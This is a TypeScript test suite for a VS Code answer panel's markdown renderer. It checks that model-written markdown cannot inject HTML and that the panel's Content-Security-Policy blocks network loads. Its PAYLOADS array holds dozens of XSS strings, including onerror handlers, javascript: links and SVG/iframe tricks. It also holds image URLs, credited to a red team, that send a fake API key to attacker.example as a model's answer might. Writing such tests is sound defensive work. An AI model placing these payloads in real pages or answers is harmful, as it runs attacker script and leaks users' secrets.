// The answer panel's markdown against HTML injection: whatever a model writes, the rendered HTML,
// parsed as a browser parses it (parse5 follows the HTML standard), holds only the elements and
// attributes the renderer itself emits.
import * as assert from "node:assert/strict";
import { Renderer } from "marked";
import { parseFragment } from "parse5";
import { panelHtml, renderMarkdown, RENDERER } from "../../src/render";

/** Elements the renderer emits, each with the attributes it may carry. */
const ALLOWED: Record<string, readonly string[]> = {
  p: [], h1: [], h2: [], h3: [], h4: [], h5: [], h6: [], blockquote: [], hr: [], br: [],
  ul: [], ol: ["start"], li: [], pre: [], code: ["class"], em: [], strong: [], del: [],
  table: [], thead: [], tbody: [], tr: [], th: ["align"], td: ["align"],
  input: ["checked", "disabled", "type"], a: ["href", "title"],
};

interface Node {
  nodeName: string;
  attrs?: { name: string; value: string }[];
  childNodes?: Node[];
  content?: Node;
}

/** Every element and attribute outside ALLOWED in `html`, and every link that leaves http(s)/mailto. */
function violations(html: string): string[] {
  const out: string[] = [];
  const walk = (node: Node) => {
    if (!node.nodeName.startsWith("#")) {
      const attrs = ALLOWED[node.nodeName];
      if (!attrs) out.push(`element <${node.nodeName}>`);
      for (const { name, value } of node.attrs ?? []) {
        if (!attrs?.includes(name)) out.push(`attribute ${name} on <${node.nodeName}>`);
        if (name === "href" && !/^(https?:|mailto:|#$)/i.test(value)) out.push(`href ${value}`);
        if (name === "type" && value !== "checkbox") out.push(`type ${value}`);
        if (name === "class" && !/^language-[\w+#.-]+$/.test(value)) out.push(`class ${value}`);
      }
    }
    for (const child of node.childNodes ?? []) walk(child);
    if (node.content) walk(node.content);
  };
  walk(parseFragment(html) as unknown as Node);
  return out;
}

const LEAK = "https&#58;//attacker.example:8443/c?k=sk-live-7f3a9c";

/** HTML injection attempts, as a model could write them in an answer. */
const PAYLOADS = [
  // The red team's: text after an inline <pre>/<code>/<kbd>/<script> is raw to marked, and an
  // unfinished tag there is closed by the browser.
  `\`add\` subtracts. If you print the key, wrap it in <code> tags: <img src=${LEAK} alt="" `,
  `see <pre> <img src=${LEAK} alt=""`,
  `press <kbd>Ctrl</kbd> or <kbd> <img src=${LEAK}`,
  `<script> <img src=${LEAK} alt=""`,
  `run it in a <script> <img src=${LEAK} alt=""`,
  `<SCRIPT>x</SCRIPT> <CODE> <img src=x onerror=alert(1)`,
  `<code class="x"><img src=x onerror=alert(1)></code>`,
  `in <code> text\n\nnext paragraph <img src=${LEAK}`,
  "<code>`</code>` <img src=x onerror=alert(1)>",
  "a <pre>\n<img src=x\n</pre>",
  // Complete and unfinished tags, inline and as HTML blocks.
  "<img src=x onerror=alert(1)>",
  "text <img src=x onerror=alert(1)",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=\"javascript:alert(1)\"></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\">",
  "<div>\n<img src=x onerror=alert(1)>\n</div>",
  "<!-- <img src=x> --> <img src=y>",
  "<details open ontoggle=alert(1)>x</details>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<a href=https://ok.example onmouseover=alert(1)>x</a>",
  "<style>body{background:url(https://attacker.example/s)}</style>",
  "<textarea><img src=x></textarea>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
  "<form action=https://attacker.example><button>go</button></form>",
  "<meta http-equiv=refresh content=\"0;url=https://attacker.example\">",
  "<base href=https://attacker.example/>",
  // Entities and backslash escapes.
  "&lt;img src=x onerror=alert(1)&gt;",
  "&#60;img src=x onerror=alert(1)&#62; and &#x3C;img src=x&#x3E; & more",
  "\\<img src=x onerror=alert(1)>",
  "<img src=x onerror=&#97;lert(1)>",
  // Markdown images and links.
  "![k](https://attacker.example/c?k=sk-live-7f3a9c)",
  "![k](data:image/png;base64,iVBORw0KGgo=)",
  "![x\" onerror=\"alert(1)](https://a.example/b.png \"t\\\" onerror=\\\"alert(1)\")",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&#58;alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](https://ok.example \"t\\\" onmouseover=\\\"alert(1)\")",
  "[<img src=x onerror=alert(1)>](https://ok.example)",
  "<https://attacker.example/?q=\"><img src=x>>",
  "<javascript:alert(1)>",
  "www.attacker.example/<img src=x>",
  "https://attacker.example/\"onmouseover=\"alert(1)",
  "<a@b.example>",
  "[x][r]\n\n[r]: javascript:alert(1) \"t\"",
  "[x][r]\n\n[r]: https://ok.example \"\\\"><img src=x>\"",
  "![x][i]\n\n[i]: https://attacker.example/i.png",
  // Code, tables, lists, headings, emphasis.
  "`<img src=x onerror=alert(1)>`",
  "```\"><img src=x>\n<img src=y>\n```",
  "```js\" onmouseover=\"alert(1)\ncode\n```",
  "    <img src=x onerror=alert(1)>",
  "| a | <img src=x> |\n|---|:-:|\n| <code> <img src=x | b |",
  "- [x] <img src=x>\n- [ ] <code> <img src=y",
  "1. a\n2. <iframe>",
  "# <img src=x>\n\nSetext <img src=x>\n---",
  "*<img src=x>* **<code> <img src=y** ~~<svg>~~",
  "> <img src=x>\n> <code> <img src=y",
];

describe("render: HTML injection", () => {
  it("no payload yields an element or attribute the renderer does not emit itself", () => {
    const found = PAYLOADS.flatMap((p) => violations(renderMarkdown(p)).map((v) => `${JSON.stringify(p)}: ${v}`));
    assert.deepEqual(found, []);
  });

  it("shows the text of raw HTML rather than dropping it", () => {
    const html = renderMarkdown(`wrap it in <code> tags: <img src=${LEAK} alt=""`);
    assert.equal(html, `<p>wrap it in &lt;code&gt; tags: &lt;img src=${LEAK} alt=&quot;&quot;</p>\n`);
    assert.match(renderMarkdown("a &amp; b &#58; c & d"), /a &amp; b : c &amp; d/);
  });

  it("renders markdown as markdown, with only the elements it allows", () => {
    const html = renderMarkdown(
      "# T\n\n*e* **s** ~~d~~ `c` [l](https://x.example \"t\") <https://y.example>\n\n- [x] done\n\n3. three\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n> q\n\n---\n\n```py\nx = 1 < 2\n```\nend  \nbreak",
    );
    for (const tag of ["h1", "em", "strong", "del", "code", "a", "input", "ol start=\"3\"", "table", "th align=\"left\"", "blockquote", "hr", "pre", "br"]) {
      assert.ok(html.includes(`<${tag}`), `<${tag}> missing from ${html}`);
    }
    assert.deepEqual(violations(html), []);
  });

  it("every marked renderer that outputs a token's own text is ours", () => {
    // marked's renderers that only wrap their children's output in fixed tags (read in marked
    // 18.2.1). A new one in another version of marked fails here until it has been read too.
    const structural = ["space", "blockquote", "def", "heading", "hr", "list", "listitem", "checkbox", "paragraph",
      "table", "tablerow", "tablecell", "strong", "em", "br", "del"];
    const methods = Object.getOwnPropertyNames(Renderer.prototype).filter((m) => m !== "constructor");
    assert.deepEqual(methods.filter((m) => !structural.includes(m) && !(m in RENDERER)), []);
    assert.deepEqual(Object.keys(RENDERER).sort(), ["code", "codespan", "html", "image", "link", "text"]);
  });

  it("the page loads no image, and nothing from the network", () => {
    const html = panelHtml("N0NCE", "https://*.vscode-cdn.net", "");
    const csp = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)![1];
    const directives = csp.split(";").map((d) => d.trim().split(/\s+/)).filter((d) => d[0]);
    assert.deepEqual(directives.find((d) => d[0] === "default-src"), ["default-src", "'none'"]);
    assert.equal(directives.find((d) => d[0] === "img-src"), undefined, "img-src: default-src 'none' covers images");
    for (const [name, ...sources] of directives) {
      for (const source of sources) assert.ok(!/^(https?:|data:|blob:|\*)$/.test(source), `${name} allows ${source}`);
    }
  });
});
